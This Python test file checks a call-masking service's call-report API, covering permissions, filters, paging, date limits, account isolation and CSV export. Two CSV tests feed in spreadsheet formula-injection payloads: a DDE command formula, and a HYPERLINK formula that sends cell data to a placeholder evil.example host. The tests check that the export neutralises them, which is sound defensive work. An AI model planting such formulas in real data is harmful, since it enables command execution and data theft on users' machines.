"""The call report over the real socket: POST /api/v2/callreport/masklist/ (JSON and CSV)."""

from __future__ import annotations

import csv
import io

import pytest

from callmask.domain.calls import CallEvent
from callmask.domain.errors import Code
from callmask.domain.numbers import E164
from callmask.domain.permissions import Permission
from tests.support import (
    DID0,
    DID1,
    MASKLIST,
    NOW,
    OTHER_DID,
    SET,
    A,
    B,
    C,
    Live,
    add_user,
    as_analyst,
    assert_error,
    is_json_answer,
    post_as,
    record_calls,
)

NOW_MS = NOW * 1000


def _call(live: Live, call_id: str, masking: dict[str, object], at_ms: int, **end: int) -> None:
    """A call from m1 to m2 through the masking: started, and answered and ended if asked."""
    caller, callee = E164(str(masking["m1"])), E164(str(masking["m2"]))
    mask, masking_id = E164(str(masking["mask"])), str(masking["maskingId"])
    events = [CallEvent("start", call_id, at_ms, masking_id, mask, caller, callee)]
    if "duration" in end:
        events.append(CallEvent("answer", call_id, at_ms + 2000, sip_status=200))
        events.append(
            CallEvent(
                "end",
                call_id,
                at_ms + 2000 + end["duration"] * 1000,
                duration_s=end["duration"],
                sip_status=200,
            )
        )
    elif "status" in end:
        events.append(
            CallEvent("failed", call_id, at_ms + 3000, duration_s=0, sip_status=end["status"])
        )
    record_calls(live, *events)


def test_the_call_log_needs_list_call_log_else_1015(live: Live, analyst: str) -> None:
    assert_error(
        live.post(MASKLIST, json=live.auth()).json(), Code.PERMISSION_DENIED, "LIST_CALL_LOG"
    )
    router = post_as(live, MASKLIST, live.router_token, "sip")
    assert_error(router, Code.PERMISSION_DENIED)
    assert as_analyst(live, analyst, MASKLIST)["status"] == "success"


def test_a_masked_call_is_listed_with_every_field(live: Live, analyst: str) -> None:
    masking = live.set(m1=A, m2=B, eventId="order-42")
    _call(live, "sip-1", masking, NOW_MS - 60_000, duration=42)
    answer = as_analyst(live, analyst, MASKLIST)
    assert answer["status"] == "success" and answer["code"] == 200, answer
    assert (answer["startTime"], answer["endTime"]) == (
        "2025-12-31T00:00:00.000Z",
        "2026-01-01T00:00:00.000Z",
    )
    assert answer["count"] == 1 and answer["nextCursor"] is None
    assert answer["calls"] == [
        {
            "callId": "sip-1",
            "maskingId": masking["maskingId"],
            "eventId": "order-42",
            "mask": DID0,
            "caller": A,
            "callee": B,
            "startTime": "2025-12-31T23:59:00.000Z",
            "answerTime": "2025-12-31T23:59:02.000Z",
            "endTime": "2025-12-31T23:59:44.000Z",
            "duration": 42,
            "sipStatus": 200,
            "status": "completed",
            "endedBy": None,
            "action": "connect",
            "recording": None,
        }
    ]


def test_filters_take_numbers_as_set_does_and_combine(live: Live, analyst: str) -> None:
    ab = live.set(m1=A, m2=B, eventId="order-1")
    ac = live.set(m1=A, m2=C, eventId="order-2")
    assert (ab["mask"], ac["mask"]) == (DID0, DID1)
    _call(live, "ab-done", ab, NOW_MS - 50_000, duration=70)
    _call(live, "ab-busy", ab, NOW_MS - 40_000, status=486)
    _call(live, "ac-done", ac, NOW_MS - 30_000, duration=5)

    def ids(**filters: object) -> list[str]:
        answer = as_analyst(live, analyst, MASKLIST, **filters)
        assert answer["status"] == "success", answer
        return [str(call["callId"]) for call in answer["calls"]]  # type: ignore[attr-defined]

    assert ids() == ["ac-done", "ab-busy", "ab-done"]
    assert ids(party="09876543210") == ["ac-done", "ab-busy", "ab-done"]
    assert ids(party=919812345678, status="completed") == ["ab-done"]
    assert ids(mask="08040000001") == ["ac-done"]
    assert ids(eventId="order-2") == ["ac-done"]
    assert ids(maskingId=ab["maskingId"], order="asc") == ["ab-done", "ab-busy"]
    assert ids(status=["failed", "completed"], minDuration=1) == ["ac-done", "ab-done"]
    assert ids(maxDuration="5") == ["ac-done", "ab-busy"]
    assert ids(startTime=NOW - 45, endTime=NOW - 35) == ["ab-busy"]


def test_pages_follow_next_cursor_to_the_end(live: Live, analyst: str) -> None:
    masking = live.set(m1=A, m2=B)
    for n in range(7):
        _call(live, f"call-{n}", masking, NOW_MS - 100_000 + n * 1000)
    seen, cursor, pages = [], None, 0
    while True:
        answer = as_analyst(live, analyst, MASKLIST, limit=3, cursor=cursor)
        seen += [call["callId"] for call in answer["calls"]]  # type: ignore[attr-defined]
        pages += 1
        cursor = answer["nextCursor"]
        if cursor is None:
            break
    assert seen == [f"call-{n}" for n in reversed(range(7))] and pages == 3


def test_csv_export_has_a_header_and_every_matching_call(live: Live, analyst: str) -> None:
    masking = live.set(m1=A, m2=B, eventId="=cmd|' /C calc'!A0")
    for n in range(5):
        _call(live, f"call-{n}", masking, NOW_MS - 100_000 + n * 1000, duration=n)
    response = live.post(
        MASKLIST,
        json={"userId": "acme-ops", "token": analyst, "format": "csv", "limit": 2, "order": "asc"},
    )
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        'attachment; filename="masklist-20251231T000000-20260101T000000.csv"'
    )
    assert response.headers["access-control-allow-origin"] == "*"
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0][:3] == ["callId", "maskingId", "eventId"] and len(rows[0]) == 14
    assert [row[0] for row in rows[1:]] == [f"call-{n}" for n in range(5)]
    assert rows[1][2] == "'=cmd|' /C calc'!A0"  # not a formula in a spreadsheet
    assert rows[3][4:6] == [A, B] and rows[3][9] == "2"


def test_csv_export_quotes_a_call_id_a_spreadsheet_would_run(live: Live, analyst: str) -> None:
    masking = live.set(m1=A, m2=B)
    # A valid SIP Call-ID, chosen by whoever places the call.
    _call(live, '+HYPERLINK("http://evil.example/?"&A1)@x', masking, NOW_MS - 100_000)
    response = live.post(MASKLIST, json={"userId": "acme-ops", "token": analyst, "format": "csv"})
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[1][0] == '\'+HYPERLINK("http://evil.example/?"&A1)@x'
    assert rows[1][3:6] == [masking["mask"], A, B]  # numbers as they are


@pytest.mark.parametrize("form", ["json", "csv"])
@pytest.mark.parametrize(
    "window",
    [
        {"endTime": 253_402_300_800},  # 10000-01-01T00:00:00Z
        {"startTime": "0001-01-01T00:00:00+01:00", "endTime": "0001-01-01T12:00:00Z"},
    ],
)
def test_a_window_outside_years_1_to_9999_answers_1000(
    live: Live, analyst: str, form: str, window: dict[str, object]
) -> None:
    answer = live.post(
        MASKLIST, json={"userId": "acme-ops", "token": analyst, "format": form, **window}
    )
    assert answer.status_code == 200 and is_json_answer(answer)
    assert_error(answer.json(), Code.INVALID_PARAMETERS, "years 1 to 9999")


def test_errors_answer_the_envelope_even_when_csv_was_asked(live: Live, analyst: str) -> None:
    bad = live.post(
        MASKLIST,
        json={"userId": "acme-ops", "token": analyst, "format": "csv", "startTime": "soon"},
    )
    assert is_json_answer(bad)
    assert_error(bad.json(), Code.INVALID_PARAMETERS, "startTime")
    denied = live.post(MASKLIST, json=live.auth(format="csv"))
    assert is_json_answer(denied)
    assert_error(denied.json(), Code.PERMISSION_DENIED)


def test_a_window_over_31_days_is_1000(live: Live, analyst: str) -> None:
    answer = as_analyst(live, analyst, MASKLIST, startTime=NOW - 32 * 86400)
    assert_error(answer, Code.INVALID_PARAMETERS, "31 days")
    answer = as_analyst(live, analyst, MASKLIST, startTime=NOW - 31 * 86400)
    assert answer["status"] == "success"


def test_the_path_works_without_its_trailing_slash(live: Live, analyst: str) -> None:
    answer = as_analyst(live, analyst, MASKLIST.rstrip("/"))
    assert answer["status"] == "success", answer


def test_an_account_never_sees_another_accounts_calls(
    live: Live, analyst: str, other_token: str
) -> None:
    ours = live.set(m1=A, m2=B)
    theirs = post_as(live, SET, other_token, "other-api", m1=A, m2=B)
    assert theirs["mask"] == OTHER_DID
    _call(live, "ours", ours, NOW_MS - 10_000, duration=3)
    _call(live, "theirs", theirs, NOW_MS - 5_000, duration=4)
    other_ops = add_user(live, "other-ops", "other", Permission.LIST_CALL_LOG)

    def ids(token: str, user: str, **filters: object) -> list[str]:
        answer = post_as(live, MASKLIST, token, user, **filters)
        assert answer["status"] == "success", answer
        return [str(call["callId"]) for call in answer["calls"]]  # type: ignore[attr-defined]

    assert ids(analyst, "acme-ops") == ["ours"]
    assert ids(other_ops, "other-ops") == ["theirs"]
    # The same parties, the other account's DID and masking: nothing of theirs shows.
    assert ids(analyst, "acme-ops", party=A) == ["ours"]
    assert ids(analyst, "acme-ops", mask=OTHER_DID) == []
    assert ids(analyst, "acme-ops", maskingId=theirs["maskingId"]) == []
